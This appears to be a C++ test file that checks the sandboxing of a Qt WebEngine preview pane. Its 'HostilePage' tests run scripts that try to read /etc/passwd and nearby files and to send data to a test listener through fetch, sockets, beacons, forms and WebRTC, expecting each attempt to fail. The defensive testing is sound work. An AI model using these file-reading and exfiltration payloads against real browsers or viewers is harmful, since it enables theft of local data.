#include <csignal>
#include <filesystem>

#include "platform/qt/binders/binders.h"
#include "platform/web_browser.h"
#include "tests/fake_platform.h"
#include "tests/qt/form_fixture.h"
#include "tests/qt/loopback_listener.h"

namespace kelvor::qt {
namespace {

constexpr const char* sandboxVariable = "QTWEBENGINE_DISABLE_SANDBOX";

using Heard = std::vector<std::string>;

/// A preview pane in a window, files for it to show, and a listener for what the pages send. A page tells its
/// outcome in its title.
class Preview : public QtForms {
protected:
    void SetUp() override {
        if (!QFile::exists(QCoreApplication::applicationDirPath() + "/kelvor_browser.so"))
            GTEST_SKIP() << "built without Qt WebEngine";
        if (geteuid() == 0) qputenv(sandboxVariable, "1");
        window_.resize(400, 300);
        bindWebBrowser(browser_, window_, *new FormLink(form_, window_));
        window_.show();
    }

    static bool engineIsLoaded() {
        QFile maps("/proc/self/maps");
        return maps.open(QIODevice::ReadOnly) && maps.readAll().contains("WebEngine");
    }

    /// Writes the page and shows it.
    void show(const std::string& name, const std::string& html) { browser_.Navigate(files_.write(name, html), 0); }

    QVariant ofEngine(const char* className, const char* property) const {
        for (const QObject* object : window_.findChildren<QObject*>())
            if (object->inherits(className)) return object->property(property);
        return {};
    }
    QString title() const { return ofEngine("QWebEngineView", "title").toString(); }
    /// The title once it begins so; what it is after ten seconds otherwise.
    std::string titleOnce(const std::string& beginning) const {
        [[maybe_unused]] const bool came =
            QTest::qWaitFor([&] { return title().startsWith(beginning.c_str()); }, 10'000);
        return title().toStdString();
    }
    /// Whether one of the pane's own labels comes to tell this.
    bool tells(const char* words) const {
        const auto told = [&] {
            for (const QLabel* label : window_.findChildren<QLabel*>())
                if (label->isVisible() && label->text().contains(words)) return true;
            return false;
        };
        return QTest::qWaitFor(told, 10'000);
    }

    TestDirectory files_;
    LoopbackListener listener_;
    Form form_{"preview", "Preview"};
    WebBrowser browser_{form_, "WebBrowser1"};
    QWidget window_;
};

/// A red square, 8 by 8.
constexpr const char* redPicture =
    R"(<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="red"/></svg>)";

/// What a script of the page makes its title, once all is loaded.
std::string titled(const std::string& expression) {
    return "<script>onload = () => { document.title = " + expression + "; }</script>";
}

TEST_F(Preview, TheEngineComesWithTheFirstPageUnlessRootHasNoSandboxAndItsFlagsStayAmongThemselves) {
    if (engineIsLoaded()) GTEST_SKIP() << "another test of this process has loaded the engine";
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu");
    if (geteuid() == 0) {
        qunsetenv(sandboxVariable);
        show("a.html", "<P>hello");
        EXPECT_TRUE(tells("runs as root"));
        qputenv(sandboxVariable, "1");
    }
    EXPECT_FALSE(engineIsLoaded());
    show("a.html", titled("'shown'"));
    EXPECT_EQ(titleOnce("shown"), "shown");
    EXPECT_EQ(qgetenv("QTWEBENGINE_CHROMIUM_FLAGS"), "--disable-gpu");
}

TEST_F(Preview, ALocalPageShowsWithItsStyleSheetAndPictureWhateverItsName) {
    files_.write("p#1%41.svg", redPicture);
    files_.write("s.css", "body { margin: 0; background: rgb(0, 0, 255) }");
    for (const char* name : {"a#b%41 c.html", "what?x=1.html", "\xC3\xA9t\xC3\xA9.html", "bad\xFF.html", "100%.html"}) {
        show(name, "<link rel=stylesheet href=s.css><img id=i width=100 height=100 src='p%231%2541.svg'>" +
                       titled("'size ' + i.naturalWidth"));
        EXPECT_EQ(titleOnce("size"), "size 8") << name;
        const auto seen = [&](int x, int y) { return window_.grab().toImage().pixelColor(x, y); };
        EXPECT_TRUE(QTest::qWaitFor([&] { return seen(50, 50) == Qt::red && seen(300, 200) == Qt::blue; })) << name;
    }
}

TEST_F(Preview, EachShowingReadsTheFilesAnewAndKnowsNothingOfTheOneBefore) {
    const std::string page = "<link rel=stylesheet href='http://" + listener_.address() + "/s.css'>" +
                             titled(
                                 "'seen ' + getComputedStyle(document.body).zIndex + ' ' + localStorage.length + ' ' "
                                 "+ history.length + window.name; localStorage.x = 1; window.name = 'x'");
    for (const std::string version : {"1", "2"}) {
        listener_.serve("/s.css", "text/css", "body { position: relative; z-index: " + version + " }");
        show("a.html", page);
        EXPECT_EQ(titleOnce("seen " + version), "seen " + version + " 0 1");
    }
}

TEST_F(Preview, APageOfAServerShowsAndGetsNoLocalFile) {
    const std::string local = "file://" + files_.write("secret.svg", redPicture);
    listener_.serve("/s.css", "text/css", "body { z-index: 7 }");
    listener_.serve("/old", "/page", "");
    listener_.serve("/page", "text/html", "<script>const local = '" + local + R"html('</script>
        <link rel=stylesheet href=/s.css><body><script>
            document.body.innerHTML = `<img id=i src='${local}'><iframe src='${local}'></iframe>`;
            onload = async () => {
                const got = await fetch(local).then(r => r.text()).catch(() => 'no');
                document.title = 'end ' + getComputedStyle(document.body).zIndex + i.naturalWidth + got
            }</script>)html");
    browser_.Navigate("http://" + listener_.address() + "/old", 0);
    EXPECT_EQ(titleOnce("end"), "end 70no");
}

TEST_F(Preview, LinksLeadOnWithinTheFolderOnly) {
    std::filesystem::create_directory(files_.path("sub"));
    for (const char* page : {"next.html", "sub/next.html"}) files_.write(page, titled("'reached'"));
    const auto click = [&](const std::string& target) {
        show("sub/a.html", "<a id=l href='" + target + "'>x</a>" + titled("'here'; l.click()"));
    };
    click("next.html");
    EXPECT_EQ(titleOnce("reached"), "reached");
    for (const std::string& target :
         {std::string("../next.html"), "http://" + listener_.address() + "/x", std::string("file:///etc/passwd")}) {
        click(target);
        EXPECT_TRUE(tells("does not follow")) << target;
        QTest::qWait(200);
        EXPECT_EQ(title(), "here") << target;
    }
    EXPECT_EQ(listener_.heard(), Heard());
}

TEST_F(Preview, AKilledPageIsToldAndReloads) {
    show("a.html", titled("'alive'"));
    EXPECT_EQ(titleOnce("alive"), "alive");
    files_.write("a.html", titled("'again'"));
    const auto process = ofEngine("QWebEnginePage", "renderProcessPid").toInt();
    ASSERT_GT(process, 1);
    kill(process, SIGKILL);
    EXPECT_TRUE(tells("process has ended"));
    QTest::mouseClick(window_.findChild<QPushButton*>(), Qt::LeftButton);
    EXPECT_EQ(titleOnce("again"), "again");
}

/// In milliseconds; long enough for what a loaded page does to arrive, also on a busy machine.
constexpr int settlingTime = 300;
constexpr int frameTime = 1200;

class HostilePage : public Preview {
protected:
    /// Shows a page with a script in which HOST and BASE are the listener, `add` puts mark-up into the page and `got`
    /// notes what an attempt has brought, unless it is nothing.
    /// @param script  run once the page is loaded
    /// @return what was noted until `time` after that, in the order of the names
    std::string run(const std::string& body, const std::string& script, int time = settlingTime) {
        show("page.html", "<!doctype html><title>begun</title><body><script>const HOST = '" + listener_.address() +
                              "', time = " + std::to_string(time) + R"js(, BASE = 'http://' + HOST, noted = [];
            const got = (name, what) => { if (what) noted.push(name) };
            const add = html => document.body.insertAdjacentHTML('beforeend', html);
            addEventListener('load', () => {
                setTimeout(() => { document.title = 'got:' + noted.sort() }, time);)js" +
                              script + "});</script>" + body);
        return titleOnce("got:");
    }
    Heard heardAfterAWhile() {
        QTest::qWait(settlingTime);
        return listener_.heard();
    }
};

TEST_F(HostilePage, GetsAtNoOtherTextOnTheDisk) {
    files_.write("secret.txt", "secret");
    files_.write("mine.html", "mine");
    EXPECT_EQ(run(R"html(<script>
            const frames = {frame: 'file:///etc/passwd', listing: 'file:///etc/', 'own listing': '.',
                            'text beside': 'secret.txt', 'own frame': 'mine.html'};
            for (const name in frames)
                document.write(`<iframe src='${frames[name]}' onload="got('${name}',
                    this.contentDocument.body.innerText)"></iframe>`);
            </script>
            <object data=/etc/passwd type=text/plain onload="got('object', this.contentDocument.body.innerText)">
            </object>
            <link rel=stylesheet href=/etc/passwd onload="got('style', true)">
            <img src=/usr/share/pixmaps/debian-logo.png onload="got('picture', true)">
            <video><track default src=/etc/passwd onload="got('track', true)"></video>
            <iframe sandbox=allow-scripts srcdoc="<script>fetch('file:///etc/passwd').then(r => r.text())
                .then(t => parent.postMessage(t, '*'))</script>"></iframe>)html",
                  R"js(
            onmessage = e => got('frame without an origin', e.data);
            for (const file of ['file:///etc/passwd', 'secret.txt'])
                fetch(file).then(r => r.text()).then(t => got('fetch', t));
            const code = "fetch('file:///etc/passwd').then(r => r.text()).then(t => postMessage(t))";
            new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => got('worker', e.data);)js"),
              "got:own frame");
}

TEST_F(HostilePage, SendsNothing) {
    EXPECT_EQ(run("", "add(`<img src='${BASE}/picture'>`)"), "got:");
    EXPECT_EQ(heardAfterAWhile(), Heard{"GET /picture HTTP/1.1"}) << "the listener does not hear what it must";
    EXPECT_EQ(run(R"(<iframe id=bare sandbox="allow-scripts allow-top-navigation"></iframe>)", R"js(
            fetch(BASE + '/fetch', {mode: 'no-cors'}).then(() => got('fetch', true));
            new EventSource(BASE + '/event-source');
            new WebSocket('ws://' + HOST + '/socket').onopen = () => got('socket', true);
            navigator.sendBeacon(BASE + '/beacon', 'x');
            try { new WebTransport('https://' + HOST) } catch (e) {}
            for (const relation of ['prefetch', 'preconnect', 'prerender', 'manifest', 'icon'])
                add(`<link rel=${relation} href='${BASE}/${relation}'>`);
            add(`<iframe src='${BASE}/frame'></iframe><object data='${BASE}/object'></object>`);
            add(`<embed src='${BASE}/embed'><iframe name=inner></iframe>`);
            add(`<form id=framed method=post target=inner action='${BASE}/framed-form'><input name=a></form>`);
            framed.submit();
            const code = `fetch('${BASE}/worker', {mode: 'no-cors'}); new WebSocket('ws://${HOST}/worker-socket')`;
            new Worker(URL.createObjectURL(new Blob([code])));
            const inside = `<script>${code.replaceAll('worker', 'inside')}; try { top.location = '${BASE}/top' }
                catch (e) {} <\/script>`;
            bare.srcdoc = inside;
            add(`<iframe src="data:text/html,${inside}"></iframe>`);
            for (const scheme of ['stun', 'turn']) {
                const server = {urls: `${scheme}:${HOST}`, username: 'x', credential: 'y'};
                const peer = new RTCPeerConnection({iceServers: [server]});
                peer.createDataChannel('x');
                peer.createOffer().then(offer => peer.setLocalDescription(offer));
            })js",
                  frameTime),
              "got:");
    EXPECT_EQ(heardAfterAWhile(), Heard());
    for (const char* leave : {
             "location = BASE",
             "add(`<form id=f method=post action='${BASE}'><input name=a value=b></form>`); f.submit()",
             "add(`<meta http-equiv=refresh content='0;url=${BASE}'>`)",
             "add(`<a id=a href='${BASE}'>x</a>`); a.click()",
             "add(`<a id=a href='#x' ping='${BASE}'>x</a>`); a.click()",
             "add(`<a id=a download href='${BASE}'>x</a>`); a.click()",
             "add(`<a id=a target=_blank href='${BASE}'>x</a>`); a.click(); got('window', open(BASE))",
         }) {
        EXPECT_EQ(run("", leave), "got:") << leave;
        EXPECT_EQ(heardAfterAWhile(), Heard()) << leave;
    }
    files_.write("other.html", "secret");
    EXPECT_EQ(run("<iframe id=f src=other.html></iframe>",
                  "const text = f.contentDocument.body.innerText; got(text, true); add(`<img src='${BASE}/${text}'>`)"),
              "got:secret");
    EXPECT_EQ(heardAfterAWhile(), Heard()) << "what was read in a frame";
}

TEST_F(HostilePage, OpensNothingWritesNothingAndStartsNothing) {
    // Takes what the desktop would open.
    QTextBrowser desktop;
    const char* const schemes[] = {"mailto", "tel", "http", "file"};
    for (const char* scheme : schemes) QDesktopServices::setUrlHandler(scheme, &desktop, "setSource");
    const auto state = [this] {
        return std::pair(std::distance(std::filesystem::recursive_directory_iterator(files_.path("")), {}),
                         QApplication::topLevelWidgets().size());
    };
    EXPECT_EQ(run("", ""), "got:");
    const auto before = state();
    EXPECT_EQ(run(R"html(<a id=m href="mailto:a@b.c">x</a><a id=t href="tel:1">x</a><input type=file id=f>
            <a id=d download="x.txt" href="data:,x">x</a>)html",
                  R"js(
            for (const part of [m, t, f, d]) part.click();
            got('window', open('page.html'));
            got('empty window', open());
            document.documentElement.requestFullscreen().then(() => got('full screen', true));
            navigator.clipboard?.readText().then(() => got('clipboard', true));
            got('paste', document.execCommand('paste'));
            navigator.geolocation.getCurrentPosition(() => got('place', true));
            Notification.requestPermission(answer => got('notification', answer == 'granted'));
            navigator.mediaDevices.getUserMedia({audio: true}).then(() => got('microphone', true));
            print(); moveTo(0, 0); close();)js"),
              "got:");
    for (const char* scheme : schemes) QDesktopServices::unsetUrlHandler(scheme);
    EXPECT_EQ(desktop.source(), QUrl());
    EXPECT_EQ(state(), before);
}

TEST_F(HostilePage, ItsMessagesCanBeStopped) {
    int dialogs = 0;
    QTimer user;
    QObject::connect(&user, &QTimer::timeout, [&] {
        auto* dialog = qobject_cast<QDialog*>(QApplication::activeModalWidget());
        if (!dialog) return;
        ++dialogs;
        if (auto* line = dialog->findChild<QLineEdit*>(); line->isVisible()) line->setText(line->text() + "!");
        dialog->findChild<QCheckBox*>()->setChecked(dialogs == 3);
        dialog->accept();
    });
    user.start(10);
    EXPECT_EQ(run("",
                  "alert('one'); got('two', confirm('two')); got(prompt('three', 'x'), true);"
                  "for (let count = 0; count < 100; count++) alert(count); got('more', confirm('more'))"),
              "got:two,x!");
    EXPECT_EQ(dialogs, 3);
}

}  // namespace
}  // namespace kelvor::qt
